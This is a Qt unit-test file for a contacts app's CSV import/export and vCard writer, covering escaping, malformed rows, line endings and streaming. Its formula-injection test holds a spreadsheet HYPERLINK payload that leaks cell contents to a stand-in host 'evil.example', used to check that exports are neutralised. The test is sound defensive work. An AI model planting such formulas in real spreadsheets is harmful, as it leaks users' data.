// SPDX-License-Identifier: GPL-3.0-or-later
// core/contacts/ContactCsv and VCardWriter: the CSV's exact bytes, a round trip through writer and
// reader, protection against spreadsheet formulas, hostile rows that are reported and skipped while
// the others come through, header errors, a BOM, CRLF and LF files, 100,000 rows streamed in
// bounded memory, and vCard escaping, folding and FN fallback.

#include "contacts/ContactCsv.h"
#include "contacts/VCardWriter.h"

#include <QBuffer>
#include <QFile>
#include <QFileInfo>
#include <QStringDecoder>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>

using namespace Qt::StringLiterals;
using namespace starling;
using namespace starling::contacts;

namespace {

/** A device that takes @p limit bytes and then fails, as a full disk does. */
class FullDisk final : public QIODevice
{
public:
    explicit FullDisk(qint64 limit)
        : m_left(limit)
    {
        open(QIODevice::WriteOnly);
    }

protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *, qint64 length) override
    {
        if (m_left <= 0) {
            setErrorString(u"No space left on device"_s);
            return -1;
        }
        const qint64 n = std::min(length, m_left);
        m_left -= n;
        return n;
    }

private:
    qint64 m_left;
};

/** What the reader said about one row. */
struct Outcome
{
    ContactCsvReader::Status status = ContactCsvReader::Status::End;
    ContactRecord record;
    CsvProblem problem;
};

/** Reads @p csv to the end: the header's result and every row's outcome. */
QList<Outcome> readAll(const QByteArray &csv, Result<void> *header = nullptr)
{
    QBuffer buffer;
    buffer.setData(csv);
    buffer.open(QIODevice::ReadOnly);
    ContactCsvReader reader(&buffer);
    const Result<void> headerResult = reader.readHeader();
    if (header)
        *header = headerResult;
    QList<Outcome> out;
    if (!headerResult)
        return out;
    for (int guard = 0; guard < 1000; ++guard) {
        Outcome outcome;
        outcome.status = reader.next(&outcome.record, &outcome.problem);
        if (outcome.status == ContactCsvReader::Status::End)
            return out;
        out.append(outcome);
    }
    qFatal("the reader never reached the end");
    return out;
}

QByteArray writeAll(const QList<ContactRecord> &records, const QStringList &customFields)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    ContactCsvWriter writer(&buffer, customFields);
    if (!writer.writeHeader())
        qFatal("writeHeader failed");
    for (const ContactRecord &record : records) {
        if (!writer.write(record))
            qFatal("write failed");
    }
    return buffer.data();
}

ContactRecord person(const QString &name)
{
    ContactRecord record;
    record.contact.displayName = name;
    return record;
}

/** Undoes vCard line folding: every CRLF followed by a space or tab goes. */
QByteArray unfolded(QByteArray text)
{
    text.replace("\r\n ", "");
    text.replace("\r\n\t", "");
    return text;
}

qint64 residentKiB()
{
#ifdef Q_OS_LINUX
    QFile status(u"/proc/self/status"_s);
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    const QList<QByteArray> lines = status.readAll().split('\n');
    for (const QByteArray &line : lines) {
        if (line.startsWith("VmRSS:"))
            return line.mid(6).trimmed().split(' ').first().toLongLong();
    }
#endif
    return -1;
}

} // namespace

class TestContactCsv : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void writerBytes();
    void writerDeviceErrors();
    void roundTrip();
    void formulaInjection_data();
    void formulaInjection();
    void plainFormulaIsData();
    void hostileRows();
    void headerErrors_data();
    void headerErrors();
    void flexibleHeader();
    void bomAccepted();
    void lineEndings_data();
    void lineEndings();
    void tagsAndHandlesNormalised();
    void hundredThousandRowsStreamed();
    void vcardContent();
    void vcardEscaping();
    void vcardFolding();
    void vcardFnFallback();
    void vcardDeviceError();
};

void TestContactCsv::writerBytes()
{
    QCOMPARE(csvStandardColumns(),
             QStringList({u"name"_s, u"company"_s, u"email"_s, u"phone"_s, u"website"_s, u"location"_s, u"stage"_s,
                          u"owner"_s, u"tags"_s, u"handles"_s, u"note"_s}));

    ContactRecord record = person(u"Ana, \"the\" Shop"_s);
    record.contact.company = u"Ana's"_s;
    record.contact.email = u"ana@example.com"_s;
    record.contact.tags = {u"lead"_s, u"vip"_s};
    record.handles = {u"x:@ana"_s, u"mastodon:@ana@example.social"_s};
    record.note = u"line one\nline two"_s;
    record.contact.customFields.insert(u"Size"_s, u"L"_s);

    const QByteArray csv = writeAll({record}, {u"Size"_s, u"Shoe"_s});
    QCOMPARE(csv, "name,company,email,phone,website,location,stage,owner,tags,handles,note,custom:Size,custom:Shoe\r\n"
                  "\"Ana, \"\"the\"\" Shop\",Ana's,ana@example.com,,,,,,lead; vip,x:@ana; mastodon:@ana@example.social,"
                  "\"line one\nline two\",L,\r\n"_ba);
}

void TestContactCsv::writerDeviceErrors()
{
    {
        FullDisk disk(20);
        ContactCsvWriter writer(&disk, {});
        const Result<void> result = writer.writeHeader();
        QVERIFY(!result.ok());
        QCOMPARE(result.error().code(), Error::Code::Storage);
        QVERIFY2(result.error().message().contains(u"No space left on device"_s), qPrintable(result.error().message()));
    }
    {
        FullDisk disk(200);
        ContactCsvWriter writer(&disk, {});
        QVERIFY(writer.writeHeader().ok());
        QVERIFY(writer.write(person(u"Ana"_s)).ok());
        ContactRecord big = person(u"Ben"_s);
        big.note = QString(300, u'n');
        const Result<void> result = writer.write(big);
        QVERIFY(!result.ok());
        QCOMPARE(result.error().code(), Error::Code::Storage);
    }
    {
        QBuffer closed;
        ContactCsvWriter writer(&closed, {});
        QTest::ignoreMessage(QtWarningMsg, "QIODevice::write (QBuffer): device not open");
        const Result<void> result = writer.write(person(u"Ana"_s));
        QVERIFY(!result.ok());
        QCOMPARE(result.error().code(), Error::Code::Storage);
    }
}

void TestContactCsv::roundTrip()
{
    QList<ContactRecord> records;

    ContactRecord a = person(u"Ana, \"the\" Shop"_s);
    a.contact.company = u"Café Ünïcødé 東京 🚀"_s;
    a.contact.email = u"ana@example.com"_s;
    a.contact.phone = u"555 123"_s;
    a.contact.website = u"https://example.com/?a=1,b=2"_s;
    a.contact.location = u"Lisbon; Portugal"_s;
    a.contact.stage = u"Qualified"_s;
    a.contact.owner = u"Bo"_s;
    a.contact.tags = {u"b2b"_s, u"lead, warm"_s, u"vip"_s};
    a.handles = {u"x:@ana"_s, u"mastodon:@ana@example.social"_s, u"bluesky:ana.bsky.social"_s};
    a.note = u"First line\nSecond \"quoted\" line, with comma\n\tindented"_s;
    a.contact.customFields.insert(u"Size"_s, u"L, or XL"_s);
    a.contact.customFields.insert(u"Shoe size"_s, u"42\n(EU)"_s);
    records.append(a);

    ContactRecord b; // no name: an email is enough
    b.contact.email = u"only@example.org"_s;
    records.append(b);

    ContactRecord c; // no name, no email: a handle is enough
    c.handles = {u"bluesky:someone.bsky.social"_s};
    c.contact.customFields.insert(u"Size"_s, u"S"_s);
    records.append(c);

    ContactRecord d = person(u"Ünïcødé \u00A0名前"_s);
    d.note = u"\"\"\"\""_s;
    records.append(d);

    // Found by fuzz_contact_csv: a U+FEFF at the start of a field is text, not a byte order mark.
    records.append(person(u"\uFEFFname"_s));

    const QStringList customFields{u"Size"_s, u"Shoe size"_s};
    const QByteArray csv = writeAll(records, customFields);
    const QList<Outcome> outcomes = readAll(csv);
    QCOMPARE(outcomes.size(), records.size());

    // a's row spans 4 physical lines (its note has two newlines, a custom field one).
    const QList<qint64> lines{2, 6, 7, 8, 9};
    for (qsizetype i = 0; i < records.size(); ++i) {
        QCOMPARE(outcomes.at(i).status, ContactCsvReader::Status::Row);
        ContactRecord expected = records.at(i);
        expected.line = lines.at(i);
        QCOMPARE(outcomes.at(i).record, expected);
    }
}

void TestContactCsv::formulaInjection_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QByteArray>("written");

    QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"_s
                               << "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""_ba;
    QTest::newRow("plus") << u"+1"_s << "'+1"_ba;
    QTest::newRow("minus") << u"-2+3"_s << "'-2+3"_ba;
    QTest::newRow("at") << u"@SUM(A1)"_s << "'@SUM(A1)"_ba;
    QTest::newRow("tab") << u"\tx"_s << "'\tx"_ba;
    QTest::newRow("full-width equals") << u"＝1+1"_s << "'＝1+1"_ba;
    QTest::newRow("full-width at") << u"＠cmd"_s << "'＠cmd"_ba;
    QTest::newRow("apostrophe then equals") << u"'=kept"_s << "''=kept"_ba;
    QTest::newRow("plain apostrophe") << u"'quoted'"_s << "'quoted'"_ba;
    QTest::newRow("equals later") << u"a=b"_s << "a=b"_ba;
}

void TestContactCsv::formulaInjection()
{
    QFETCH(QString, value);
    QFETCH(QByteArray, written);

    ContactRecord record = person(value);
    record.contact.company = value;
    record.note = value;
    record.contact.customFields.insert(u"F"_s, value);
    const QByteArray csv = writeAll({record}, {u"F"_s});

    const QByteArray row = csv.mid(csv.indexOf("\r\n") + 2);
    const QByteArray expectedRow = written + ',' + written + ",,,,,,,,," + written + ',' + written + "\r\n";
    QCOMPARE(row, expectedRow);

    const QList<Outcome> outcomes = readAll(csv);
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(outcomes.first().status, ContactCsvReader::Status::Row);
    const ContactRecord &read = outcomes.first().record;
    QCOMPARE(read.contact.displayName, value);
    QCOMPARE(read.contact.company, value);
    QCOMPARE(read.note, value);
    QCOMPARE(read.contact.customFields.value(u"F"_s), value);
}

void TestContactCsv::plainFormulaIsData()
{
    // Written by someone else, without the apostrophe: kept as plain text (Starling never evaluates it).
    const QList<Outcome> outcomes = readAll("name,company\n=1+1,@SUM(A1)\n'=2,'plain\n"_ba);
    QCOMPARE(outcomes.size(), 2);
    QCOMPARE(outcomes.at(0).record.contact.displayName, u"=1+1"_s);
    QCOMPARE(outcomes.at(0).record.contact.company, u"@SUM(A1)"_s);
    QCOMPARE(outcomes.at(1).record.contact.displayName, u"=2"_s);
    QCOMPARE(outcomes.at(1).record.contact.company, u"'plain"_s);
}

void TestContactCsv::hostileRows()
{
    QByteArray csv = "name,email,handles,note\r\n"_ba; // 1
    csv += "Ana,ana@example.com,X:@ana,ok\r\n"; // 2
    csv += "Bad \xff\xfe bytes,b@example.com,,\r\n"; // 3
    csv += "Carl,carl@example.com\r\n"; // 4
    csv += "Dora,dora@example.com,,\"multi\r\nline, note\"\r\n"; // 5-6
    csv += "Eve " + QByteArray(2 * 1024 * 1024, 'e') + ",eve@example.com,,\r\n"; // 7
    csv += "Fay,not-an-email,,\r\n"; // 8
    csv += "Gus,,myspace:@gus,\r\n"; // 9
    csv += ",,,just a note\r\n"; // 10
    csv += "\r\n"; // 11, blank
    csv += "Hal,,bluesky:hal.bsky.social,\r\n"; // 12
    csv += "Ida,ida@example.com,," + QByteArray(10001, 'i') + "\r\n"; // 13
    csv += "Jo\x01n,jon@example.com,,\r\n"; // 14
    csv += "\"Eve " + QByteArray(3 * 1024 * 1024, 'q') + "\",e2@example.com,,\r\n"; // 15, quoted and too long
    csv += "Kim,\"kim@example.com\",,\"cut in the middle of a \xe2\x82\"\r\n"; // 16, truncated UTF-8
    csv += "Lou,lou@example.com,,fine\r\n"; // 17
    csv += "Max,max@example.com,,\"never closed\r\nmore, text\r\n"; // 18-20, unterminated at EOF

    const QList<Outcome> outcomes = readAll(csv);

    struct Expected
    {
        ContactCsvReader::Status status;
        qint64 line;
        QString text; ///< the name for a Row, a part of the message for a Problem
    };
    using S = ContactCsvReader::Status;
    const QList<Expected> expected{
        {S::Row, 2, u"Ana"_s},
        {S::Problem, 3, u"Line 3 is not valid UTF-8 text (save the file as UTF-8)."_s},
        {S::Problem, 4, u"Line 4 does not have as many fields as the header row (2 instead of 4)."_s},
        {S::Row, 5, u"Dora"_s},
        {S::Problem, 7, u"Line 7 is longer than 1 MiB"_s},
        {S::Problem, 8, u"“not-an-email” is not an email address"_s},
        {S::Problem, 9, u"“myspace:@gus” is not a handle"_s},
        {S::Problem, 10, u"Line 10 has no name, email or handle."_s},
        {S::Row, 12, u"Hal"_s},
        {S::Problem, 13, u"the field “note” is longer than 10,000 characters"_s},
        {S::Problem, 14, u"the field “name” contains control characters"_s},
        {S::Problem, 15, u"Line 15 is longer than 1 MiB"_s},
        {S::Problem, 16, u"Line 16 is not valid UTF-8 text"_s},
        {S::Row, 17, u"Lou"_s},
        {S::Problem, 18, u"Line 18 has a quoted field that is never closed."_s},
    };
    QCOMPARE(readAll("name,email\nAna\n"_ba).first().problem.message,
             u"Line 2 does not have as many fields as the header row (1 instead of 2)."_s);
    QCOMPARE(outcomes.size(), expected.size());
    for (qsizetype i = 0; i < expected.size(); ++i) {
        const Outcome &got = outcomes.at(i);
        const Expected &want = expected.at(i);
        QCOMPARE(got.status, want.status);
        if (want.status == S::Row) {
            QCOMPARE(got.record.line, want.line);
            QCOMPARE(got.record.contact.displayName, want.text);
        } else {
            QCOMPARE(got.problem.line, want.line);
            QVERIFY2(got.problem.message.contains(want.text), qPrintable(got.problem.message));
            QVERIFY2(got.problem.message.size() < 400, "a problem message must not carry the hostile data");
        }
    }
    QCOMPARE(outcomes.at(0).record.handles, QStringList{u"x:@ana"_s});
    QCOMPARE(outcomes.at(3).record.note, u"multi\nline, note"_s);
    QCOMPARE(outcomes.at(8).record.handles, QStringList{u"bluesky:hal.bsky.social"_s});
}

void TestContactCsv::headerErrors_data()
{
    QTest::addColumn<QByteArray>("csv");
    QTest::addColumn<QString>("expected");

    QTest::newRow("empty file") << QByteArray() << u"The file is empty"_s;
    QTest::newRow("only blank lines") << "\r\n\n  \n"_ba << u"The file is empty"_s;
    QTest::newRow("only a BOM") << "\xEF\xBB\xBF"_ba << u"The file is empty"_s;
    QTest::newRow("unknown column") << "name,email,favourite colour\r\nAna,a@b.c,red\r\n"_ba
                                    << u"The column “favourite colour” is not a contacts column"_s;
    QTest::newRow("duplicate column") << "name,Email, EMAIL \r\n"_ba << u"The column “EMAIL” appears more than once."_s;
    QTest::newRow("duplicate custom") << "name,custom:Size,Custom: Size\r\n"_ba
                                      << u"The column “Custom: Size” appears more than once."_s;
    QTest::newRow("empty custom") << "name,custom:\r\n"_ba << u"The column “custom:” names no custom field"_s;
    QTest::newRow("empty column") << "name,,email\r\n"_ba << u"Column 2 of the header row has no name."_s;
    QTest::newRow("no way to know who") << "company,phone\r\n"_ba << u"no “name” column"_s;
    QTest::newRow("not UTF-8") << "name,n\xf6te\r\n"_ba << u"not valid UTF-8"_s;
}

void TestContactCsv::headerErrors()
{
    QFETCH(QByteArray, csv);
    QFETCH(QString, expected);

    Result<void> header;
    const QList<Outcome> outcomes = readAll(csv, &header);
    QVERIFY(!header.ok());
    QCOMPARE(header.error().code(), Error::Code::InvalidInput);
    QVERIFY2(header.error().message().contains(expected), qPrintable(header.error().message()));
    QVERIFY(outcomes.isEmpty());
}

void TestContactCsv::flexibleHeader()
{
    Result<void> header;
    const QList<Outcome> outcomes =
        readAll(" HANDLES ,Email,Custom:Shoe Size,Note\r\nx:@ana,ana@example.com, 42 ,hi\r\n"_ba, &header);
    QVERIFY(header.ok());
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(outcomes.first().status, ContactCsvReader::Status::Row);
    const ContactRecord &record = outcomes.first().record;
    QVERIFY(record.contact.displayName.isEmpty());
    QCOMPARE(record.contact.email, u"ana@example.com"_s);
    QCOMPARE(record.handles, QStringList{u"x:@ana"_s});
    QCOMPARE(record.contact.customFields, (QMap<QString, QString>{{u"Shoe Size"_s, u"42"_s}}));
    QCOMPARE(record.note, u"hi"_s);
    QCOMPARE(record.line, 2);

    // Without a header, next() has nothing to give.
    QBuffer buffer;
    buffer.setData("name\nAna\n"_ba);
    buffer.open(QIODevice::ReadOnly);
    ContactCsvReader reader(&buffer);
    ContactRecord unused;
    CsvProblem problem;
    QCOMPARE(reader.next(&unused, &problem), ContactCsvReader::Status::End);
}

void TestContactCsv::bomAccepted()
{
    Result<void> header;
    const QList<Outcome> outcomes = readAll("\xEF\xBB\xBFname,email\r\nAna,ana@example.com\r\n"_ba, &header);
    QVERIFY2(header.ok(), header.ok() ? "" : qPrintable(header.error().message()));
    QCOMPARE(outcomes.size(), 1);
    QCOMPARE(outcomes.first().record.contact.displayName, u"Ana"_s);
    QCOMPARE(outcomes.first().record.line, 2);
}

void TestContactCsv::lineEndings_data()
{
    QTest::addColumn<QByteArray>("newline");
    QTest::newRow("CRLF") << "\r\n"_ba;
    QTest::newRow("LF") << "\n"_ba;
}

void TestContactCsv::lineEndings()
{
    QFETCH(QByteArray, newline);
    QByteArray csv = "name,note" + newline; // 1
    csv += "Ana,one" + newline; // 2
    csv += newline; // 3, blank
    csv += "Ben,\"two" + newline + "lines\"" + newline; // 4-5
    csv += newline + newline; // 6-7
    csv += "Cy,\"x\"\"y\""; // 8, no final newline

    const QList<Outcome> outcomes = readAll(csv);
    QCOMPARE(outcomes.size(), 3);
    QCOMPARE(outcomes.at(0).record.contact.displayName, u"Ana"_s);
    QCOMPARE(outcomes.at(0).record.line, 2);
    QCOMPARE(outcomes.at(1).record.contact.displayName, u"Ben"_s);
    QCOMPARE(outcomes.at(1).record.note, u"two\nlines"_s);
    QCOMPARE(outcomes.at(1).record.line, 4);
    QCOMPARE(outcomes.at(2).record.contact.displayName, u"Cy"_s);
    QCOMPARE(outcomes.at(2).record.note, u"x\"y"_s);
    QCOMPARE(outcomes.at(2).record.line, 8);
}

void TestContactCsv::tagsAndHandlesNormalised()
{
    const QList<Outcome> outcomes =
        readAll("name,tags,handles\nAna, vip ;lead;;vip; b2b ,MASTODON:@Ana@Example.social; x:@Ana ;x:@Ana\n"_ba);
    QCOMPARE(outcomes.size(), 1);
    const ContactRecord &record = outcomes.first().record;
    QCOMPARE(record.contact.tags, (QStringList{u"b2b"_s, u"lead"_s, u"vip"_s}));
    QCOMPARE(record.handles, (QStringList{u"mastodon:@Ana@Example.social"_s, u"x:@Ana"_s}));

    const QList<Outcome> bad = readAll("name,handles\nAna,x:@ana;@nobody\nBo,bluesky:\n"_ba);
    QCOMPARE(bad.size(), 2);
    QCOMPARE(bad.at(0).status, ContactCsvReader::Status::Problem);
    QVERIFY2(bad.at(0).problem.message.contains(u"“@nobody” is not a handle"_s), qPrintable(bad.at(0).problem.message));
    QCOMPARE(bad.at(1).status, ContactCsvReader::Status::Problem);
    QCOMPARE(bad.at(1).problem.line, 3);
}

void TestContactCsv::hundredThousandRowsStreamed()
{
    constexpr int rows = 100000;
    // About 30 MB in all: reading the whole file at once would show as growth well over the limit.
    const QString padding = QString(250, u'p');
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(u"contacts.csv"_s);
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        ContactCsvWriter writer(&file, {u"Size"_s});
        QVERIFY(writer.writeHeader().ok());
        for (int i = 0; i < rows; ++i) {
            ContactRecord record = person(u"Person %1, \"the\" one"_s.arg(i));
            record.contact.email = u"p%1@example.com"_s.arg(i);
            record.contact.tags = {u"t%1"_s.arg(i % 7)};
            record.handles = {u"x:@p%1"_s.arg(i)};
            record.note = u"=note %1 ünïcødé %2"_s.arg(i).arg(padding);
            record.contact.customFields.insert(u"Size"_s, QString::number(i));
            QVERIFY(writer.write(record).ok());
        }
    }
    QVERIFY(QFileInfo(path).size() > 30 * 1024 * 1024);

    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const qint64 before = residentKiB();
    qint64 peak = before;
    ContactCsvReader reader(&file);
    QVERIFY(reader.readHeader().ok());
    int count = 0;
    ContactRecord record;
    CsvProblem problem;
    ContactCsvReader::Status status;
    while ((status = reader.next(&record, &problem)) != ContactCsvReader::Status::End) {
        QVERIFY2(status == ContactCsvReader::Status::Row, qPrintable(problem.message));
        // Compare cheaply but completely enough that a shifted or mangled row would fail.
        if (record.line != count + 2 || record.contact.displayName != u"Person %1, \"the\" one"_s.arg(count)
            || record.note != u"=note %1 ünïcødé %2"_s.arg(count).arg(padding)
            || record.contact.customFields.value(u"Size"_s) != QString::number(count)
            || record.handles != QStringList{u"x:@p%1"_s.arg(count)}) {
            QFAIL(qPrintable(u"row %1 came back wrong (line %2, name %3)"_s.arg(count)
                                 .arg(record.line)
                                 .arg(record.contact.displayName)));
        }
        ++count;
        if (count % 10000 == 0)
            peak = std::max(peak, residentKiB());
    }
    QCOMPARE(count, rows);
    // AddressSanitizer keeps freed memory in quarantine, so the resident size says nothing there.
#if defined(Q_OS_LINUX) && !defined(__SANITIZE_ADDRESS__)
    QVERIFY(before > 0);
    const qint64 growthKiB = peak - before;
    QVERIFY2(growthKiB < 20 * 1024, qPrintable(u"the reader grew by %1 KiB"_s.arg(growthKiB)));
#endif
}

void TestContactCsv::vcardContent()
{
    ContactRecord record = person(u"Ana Shop"_s);
    record.contact.company = u"Shop Ltd"_s;
    record.contact.email = u"ana@example.com"_s;
    record.contact.phone = u"+1 555 0100"_s;
    record.contact.website = u"https://example.com"_s;
    record.contact.location = u"Lisbon"_s;
    record.contact.tags = {u"lead"_s, u"vip"_s};
    record.handles = {u"x:@ana"_s, u"mastodon:@ana@example.social"_s};
    record.note = u"Met at the fair"_s;
    record.contact.stage = u"Customer"_s;
    record.contact.owner = u"Ben"_s;
    record.contact.customFields = {{u"Plan"_s, u"Gold; yearly"_s}, {u"Size"_s, u"12"_s}};

    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    VCardWriter writer(&buffer);
    QVERIFY(writer.write(record).ok());
    QCOMPARE(buffer.data(), "BEGIN:VCARD\r\n"
                            "VERSION:4.0\r\n"
                            "FN:Ana Shop\r\n"
                            "ORG:Shop Ltd\r\n"
                            "EMAIL:ana@example.com\r\n"
                            "TEL:+1 555 0100\r\n"
                            "URL:https://example.com\r\n"
                            "ADR:;;;Lisbon;;;\r\n"
                            "CATEGORIES:lead,vip\r\n"
                            "X-SOCIALPROFILE;TYPE=x:@ana\r\n"
                            "X-SOCIALPROFILE;TYPE=mastodon:@ana@example.social\r\n"
                            "NOTE:Met at the fair\r\n"
                            "X-STARLING-STAGE:Customer\r\n"
                            "X-STARLING-OWNER:Ben\r\n"
                            "X-STARLING-FIELD:Plan;Gold\\; yearly\r\n"
                            "X-STARLING-FIELD:Size;12\r\n"
                            "END:VCARD\r\n"_ba);

    // Two cards follow each other on the same device.
    QVERIFY(writer.write(person(u"Bo"_s)).ok());
    QCOMPARE(buffer.data().count("BEGIN:VCARD\r\n"), 2);
    QVERIFY(buffer.data().endsWith("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Bo\r\nEND:VCARD\r\n"));
}

void TestContactCsv::vcardEscaping()
{
    ContactRecord record = person(u"Doe\\, Jane; Jr."_s);
    record.contact.company = u"A,B;C\\D"_s;
    record.contact.location = u"Main St; 5, Porto"_s;
    record.contact.tags = {u"a,b"_s, u"c;d"_s};
    record.note = u"one\r\ntwo\nthree\rfour"_s;

    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    QVERIFY(VCardWriter(&buffer).write(record).ok());
    const QByteArray card = unfolded(buffer.data());
    // A semicolon is escaped only inside compound values (ORG, ADR): elsewhere readers show the backslash.
    QVERIFY2(card.contains("\r\nFN:Doe\\\\\\, Jane; Jr.\r\n"), card.constData());
    QVERIFY2(card.contains("\r\nORG:A\\,B\\;C\\\\D\r\n"), card.constData());
    QVERIFY2(card.contains("\r\nADR:;;;Main St\\; 5\\, Porto;;;\r\n"), card.constData());
    QVERIFY2(card.contains("\r\nCATEGORIES:a\\,b,c;d\r\n"), card.constData());
    QVERIFY2(card.contains("\r\nNOTE:one\\ntwo\\nthree\\nfour\r\n"), card.constData());
    // No bare CR or LF anywhere but in the CRLF line ends.
    QByteArray stripped = card;
    stripped.replace("\r\n", "");
    QVERIFY(!stripped.contains('\r'));
    QVERIFY(!stripped.contains('\n'));
}

void TestContactCsv::vcardFolding()
{
    // "NOTE:" is 5 octets; 69 ASCII letters bring the line to 74, so the 3-octet "€" straddles octet 75.
    const QString note = QString(69, u'a') + u"€"_s + QString(200, u'b') + u"ü😀"_s.repeated(40);
    ContactRecord record = person(u"Ana"_s);
    record.note = note;

    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    QVERIFY(VCardWriter(&buffer).write(record).ok());
    const QByteArray card = buffer.data();
    QVERIFY(card.endsWith("\r\n"));

    QList<QByteArray> lines = card.split('\n');
    QVERIFY(lines.takeLast().isEmpty());
    QVERIFY(lines.size() > 8);
    for (const QByteArray &lineWithCr : lines) {
        QVERIFY2(lineWithCr.endsWith('\r'), "every line ends in CRLF");
        const QByteArray line = lineWithCr.chopped(1);
        QVERIFY2(line.size() <= 75, line.constData());
        // Each physical line is valid UTF-8 on its own: no character was split by the fold.
        QStringDecoder decoder(QStringConverter::Utf8, QStringConverter::Flag::Stateless);
        const QString text = decoder.decode(line);
        QVERIFY2(!decoder.hasError(), line.constData());
        QVERIFY(!text.contains(QChar::ReplacementCharacter));
    }
    // The first NOTE line stops before the "€" rather than cutting it.
    const qsizetype noteAt = card.indexOf("NOTE:");
    QCOMPARE(card.mid(noteAt, card.indexOf("\r\n", noteAt) - noteAt), "NOTE:" + QByteArray(69, 'a'));
    QVERIFY(card.contains(QByteArray("\r\n €" + QByteArray(10, 'b'))));

    const QByteArray whole = unfolded(card);
    QVERIFY(whole.contains(QByteArray("\r\nNOTE:" + note.toUtf8() + "\r\n")));
    QCOMPARE(whole.count("\r\n"), 5);
}

void TestContactCsv::vcardFnFallback()
{
    const auto fnOf = [](const ContactRecord &record) {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        if (!VCardWriter(&buffer).write(record).ok())
            return QByteArray("write failed");
        const QByteArray card = buffer.data();
        const qsizetype at = card.indexOf("\r\nFN:");
        if (at < 0)
            return QByteArray("no FN");
        return card.mid(at + 5, card.indexOf("\r\n", at + 5) - at - 5);
    };

    ContactRecord handleOnly;
    handleOnly.contact.email = u"ana@example.com"_s;
    handleOnly.handles = {u"mastodon:@ana@example.social"_s, u"x:@ana"_s};
    QCOMPARE(fnOf(handleOnly), "@ana@example.social"_ba);

    ContactRecord emailOnly;
    emailOnly.contact.email = u"ana@example.com"_s;
    QCOMPARE(fnOf(emailOnly), "ana@example.com"_ba);

    ContactRecord blankName = person(u"   "_s);
    blankName.contact.email = u"bo@example.com"_s;
    QCOMPARE(fnOf(blankName), "bo@example.com"_ba);

    QVERIFY(!fnOf(ContactRecord()).isEmpty());
    QCOMPARE(fnOf(person(u"Ana"_s)), "Ana"_ba);
}

void TestContactCsv::vcardDeviceError()
{
    FullDisk disk(30);
    const Result<void> result = VCardWriter(&disk).write(person(u"Ana"_s));
    QVERIFY(!result.ok());
    QCOMPARE(result.error().code(), Error::Code::Storage);
    QVERIFY(result.error().message().contains(u"No space left on device"_s));
}

QTEST_GUILESS_MAIN(TestContactCsv)
#include "TestContactCsv.moc"
